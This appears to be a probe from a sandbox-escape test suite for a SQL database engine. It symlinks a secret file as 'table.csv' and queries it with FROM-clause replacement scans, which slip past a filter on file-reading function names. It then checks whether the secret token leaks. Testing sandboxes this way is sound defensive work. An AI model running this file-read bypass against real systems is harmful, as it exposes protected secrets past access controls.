"""Name the secret file as if it were a table.

origin: replacement scans: FROM 'file.csv' needs no function
why: a filter on function names does not see it
control: succeeds
grants: data
data: input
"""


def attack(target):
    link = os.path.join(target["stage"], "table.csv")
    try:
        os.symlink(target["secret"], link)
    except OSError:
        link = target["secret"]
    last = ""
    for database in databases(autoload_known_extensions="false"):
        for name in (link, f"{target['stage']}/secret.t*t", f"{target['stage']}/*.csv"):
            rows, refused = ask(database, f"FROM '{name}'")
            columns = getattr(database, "description", None)
            if holds_token(target, repr((rows, columns))):
                return escaped(f"{name} was a table")
            last = refused or last
    return nothing(last)
